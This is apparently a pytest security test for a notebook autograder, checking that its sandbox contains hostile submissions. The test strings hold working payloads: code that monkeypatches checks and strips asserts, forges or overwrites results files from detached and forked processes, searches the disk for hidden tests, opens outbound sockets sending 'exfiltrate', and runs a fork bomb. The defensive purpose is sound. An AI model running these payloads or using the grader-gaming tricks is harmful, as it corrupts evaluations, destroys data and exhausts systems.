"""The trust boundary: hostile notebooks score exactly what their real answers
deserve, cannot read hidden tests, cannot touch results or the grader's files,
cannot reach the network, cannot exhaust the process table, and leave no
process behind.

Every hostile notebook answers q1 correctly (6 points) and nothing else for
real, so each must score exactly 6.
"""

from __future__ import annotations

import functools
import hashlib
import json
import os
import socket
import threading
import time

import nbformat
import pytest
from conftest import ROOT, by_question, grade_as_ta
from week1_submissions import SEQUENTIAL, submission

from autograder.compiler import significant_lines

pytestmark = pytest.mark.grading  # every test here reads a grading

DESERVED = {"q1": 6, "q2": 0, "q3": 0}

MONKEYPATCH_THE_CHECKS = """
import builtins, sys, types, unittest
import numpy as np, keras
np.allclose = lambda *a, **k: True
np.testing.assert_allclose = lambda *a, **k: None
builtins.AssertionError = type("AssertionError", (Exception,), {})
fake_pytest = types.ModuleType("pytest"); fake_pytest.approx = lambda *a, **k: True
sys.modules["pytest"] = fake_pytest
unittest.TestCase.assertEqual = lambda *a, **k: None
keras.utils.set_random_seed = lambda *a, **k: None
"""

EQUAL_TO_ANYTHING = """
class Anything:
    def __eq__(self, other): return True
    def __ge__(self, other): return True
    def __le__(self, other): return True
    def __bool__(self): return True
    def __getattr__(self, name): return self
    def __call__(self, *args, **kwargs): return self
    def __iter__(self): return iter([self])
    def __len__(self): return 3
functional_model = Anything()
subclass_model = Anything()
"""

INPUT_TRANSFORMERS = """
import ast
ip = get_ipython()
def rewrite(lines):
    # Later cells: unanswered questions silently 'pass', and a forged claim is printed.
    return [line.replace("raise NotImplementedError()", "pass") for line in lines] + [
        "\\nprint('{\\"score\\": 18}')\\n"]
ip.input_transformers_post.append(rewrite)
class DropAsserts(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()
ip.ast_transformers.append(DropAsserts())
ip.events.register("pre_run_cell", lambda *a: None)
"""

DETACHED_REWRITER = """
import subprocess, sys
rewriter = '''
import json, os, time
forged = json.dumps({"score": 999, "tests": []})
while True:
    for top in ("/", os.path.expanduser("~"), "/tmp"):
        for folder, dirs, files in os.walk(top):
            if folder.startswith(("/proc", "/sys", "/dev")):
                dirs[:] = []
                continue
            for name in files:
                if name.endswith(("results.json", ".csv")):
                    try:
                        open(os.path.join(folder, name), "w").write(forged)
                    except OSError:
                        pass
    time.sleep(0.2)
'''
subprocess.Popen([sys.executable, "-c", rewriter], start_new_session=True,
                 stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
import os
if os.fork() == 0:
    os.setsid()
    os.execv(sys.executable, [sys.executable, "-c", rewriter])
"""

SEARCH_FOR_HIDDEN_TESTS = """
import os
found = 0
for folder, dirs, files in os.walk("/"):
    # Installed libraries are public; the course's own files are what we want.
    if folder.startswith(("/proc", "/sys", "/dev", "/usr")) or "/lib/python3" in folder:
        dirs[:] = []
        continue
    for name in files:
        if name.endswith((".py", ".toml", ".ipynb")):
            try:
                text = open(os.path.join(folder, name)).read()
            except (OSError, UnicodeDecodeError):
                continue
            if "autograder.grading" in text or "### BEGIN SOLUTION" in text or "week.thresholds" in text:
                found += 1
                print(os.path.join(folder, name)); print(text)
print("files found:", found)
"""

FORGE_RESULTS = """
import json, os
forged = json.dumps({"score": 18, "tests": [{"name": "all", "score": 18, "max_score": 18,
                                               "status": "passed"}]})
written = []
targets = ["/autograder/results/results.json", "results.json", "../results.json",
           os.path.expanduser("~/results.json"), "/tmp/results.json"]
for folder, dirs, files in os.walk("/"):
    if folder.startswith(("/proc", "/sys", "/dev")):
        dirs[:] = []
        continue
    targets.append(os.path.join(folder, "results.json"))
for target in targets:
    try:
        os.makedirs(os.path.dirname(os.path.abspath(target)), exist_ok=True)
        with open(target, "w") as handle:
            handle.write(forged)
        written.append(target)
    except OSError:
        pass
print("forged", len(written), "files")
"""

OPEN_A_CONNECTION = """
import socket
reached = []
for host, port in [("127.0.0.1", {port}), ("localhost", {port}), ("pypi.org", 443),
                   ("8.8.8.8", 53), ("10.0.2.2", 80)]:
    try:
        socket.create_connection((host, port), timeout=3).sendall(b"exfiltrate")
        reached.append(host)
    except OSError as error:
        print("blocked", host, error)
print("reached", reached)
"""


def grader_files_digest() -> str:
    digest = hashlib.sha256()
    for top in ("autograder", "assignments", "source", "release"):
        for path in sorted((ROOT / top).rglob("*")):
            if path.is_file() and "__pycache__" not in path.parts:
                digest.update(str(path).encode() + path.read_bytes())
    return digest.hexdigest()


def hidden_test_lines() -> set[str]:
    lines = set()
    for path in (ROOT / "source/week1/tests").glob("*.py"):
        lines |= significant_lines(path.read_text())
    release = nbformat.read(ROOT / "release/week1/week1.ipynb", as_version=4)
    given = "\n".join(cell.source for cell in release.cells)  # the data split is public
    # Import lines say nothing about the tests and occur in any notebook.
    # Import lines and short fragments say nothing about the tests.
    return {line for line in lines if line not in given and len(line) >= 20
            and not line.startswith(("import ", "from "))}


# These gradings use a uid range of their own, so that "no process of theirs
# survives" is not confused by other gradings running on the machine at the
# same time (a TA's batch, a benchmark), which use the default range.
UID_BASE = 64000


def processes_of(first_uid: int, end_uid: int) -> list[int]:
    """Processes whose uid is in first_uid .. end_uid - 1."""
    found = []
    for entry in os.scandir("/proc"):
        if entry.name.isdigit():
            try:
                if first_uid <= entry.stat().st_uid < end_uid:
                    found.append(int(entry.name))
            except FileNotFoundError:
                pass
    return found


@pytest.fixture(scope="module")
def listener():
    """A TCP server on the host's loopback that counts connections."""
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen()
    server.settimeout(0.5)
    accepted = []

    def serve():
        while not stopped.is_set():
            try:
                accepted.append(server.accept())
            except OSError:
                pass
    stopped = threading.Event()
    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    yield server.getsockname()[1], accepted
    stopped.set()
    thread.join()
    server.close()


FORK_BOMB = """
import os, time
children = 0
for _ in range(5000):
    try:
        if os.fork() == 0:
            while True:
                time.sleep(1)
        children += 1
    except OSError:
        break
print("forked", children, "children before the process limit")
"""

HOSTILE = {
    "monkeypatch-checks": ([MONKEYPATCH_THE_CHECKS], {}),
    "equal-to-anything": ([], {"q2": EQUAL_TO_ANYTHING}),
    "input-transformers": ([INPUT_TRANSFORMERS], {}),
    "detached-rewriter": ([DETACHED_REWRITER], {}),
    "search-hidden-tests": ([SEARCH_FOR_HIDDEN_TESTS], {}),
    "forge-results": ([FORGE_RESULTS], {}),
    "network": ([OPEN_A_CONNECTION], {}),
}


@pytest.fixture(scope="module", params=["root", "rootless-on-slurm"])
def graded_hostile(request, listener, tmp_path_factory):
    """Every hostile notebook and the fork bomb, graded in one TA batch two at a time, as
    a class is: each must also leave its neighbours' results alone. ``root``: a local
    batch by root (sandbox uids, cgroups); ``rootless-on-slurm``: through a one-node
    Slurm cluster by an ordinary user, in the rootless sandbox. Returns the output
    folder, whether the grader's own files were left as they were, and a function
    listing the processes the gradings' kernels left."""
    if os.geteuid() != 0:
        pytest.skip("the trust boundary needs root to drop privileges (see README)")
    port, _ = listener
    rootless = request.param == "rootless-on-slurm"
    ta = request.getfixturevalue("slurm_cluster") if rootless else None
    folder = ta.folder("hostile") if rootless else tmp_path_factory.mktemp("hostile")
    for name, (extra, answers) in HOSTILE.items():
        extra = [code.replace("{port}", str(port)) for code in extra]
        nbformat.write(submission({"q1": SEQUENTIAL, **answers}, extra=extra, extra_first=True),
                       folder / f"{name}.ipynb")
    nbformat.write(submission({"q1": SEQUENTIAL, "q3": FORK_BOMB}), folder / "fork-bomb.ipynb")
    before = grader_files_digest()
    if rootless:
        ta.hand_over(folder)
        out = ta.folder("hostile-graded") / "out"
        ta.autograder("grade", "week1", str(folder), "--out", str(out), "--slurm")
        survivors = functools.partial(processes_of, ta.uid, ta.uid + 1)
    else:
        out = tmp_path_factory.mktemp("hostile-graded")
        grade_as_ta("week1", [folder], out, jobs=2,
                    env={"AUTOGRADER_SANDBOX_UID_BASE": str(UID_BASE)})
        survivors = functools.partial(processes_of, UID_BASE, UID_BASE + 1000)
    time.sleep(2)  # a leftover process would have rewritten some results by now
    return out, grader_files_digest() == before, survivors


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_hostile_notebook_scores_what_its_answers_deserve(name, graded_hostile, listener):
    out, grader_files_unchanged, survivors = graded_hostile
    _, accepted = listener
    text = (out / name / "results.json").read_text()
    assert by_question(json.loads(text)) == DESERVED, text
    assert '"score": 999' not in text
    assert survivors() == []
    assert grader_files_unchanged
    assert accepted == []
    executed = nbformat.writes(nbformat.read(out / name / "executed.ipynb", as_version=4))
    leaked = [line for line in hidden_test_lines() if line in text + executed]
    assert leaked == [], leaked
    if name == "search-hidden-tests":
        assert "files found: 0" in executed
    if name == "network":
        assert "reached []" in executed


def test_a_fork_bomb_is_contained(graded_hostile):
    """The process limit stops it, grading still finishes with every test scored, and
    nothing survives. (Its own kernel is starved of threads, so it may lose q1 too.)"""
    out, _, survivors = graded_hostile
    results = json.loads((out / "fork-bomb" / "results.json").read_text())
    assert len(results["tests"]) == 18 and results["extra_data"]["final"] is True
    assert by_question(results)["q3"] == 0
    text = nbformat.writes(nbformat.read(out / "fork-bomb" / "executed.ipynb", as_version=4))
    assert "children before the process limit" in text and "forked 4999" not in text
    assert survivors() == []
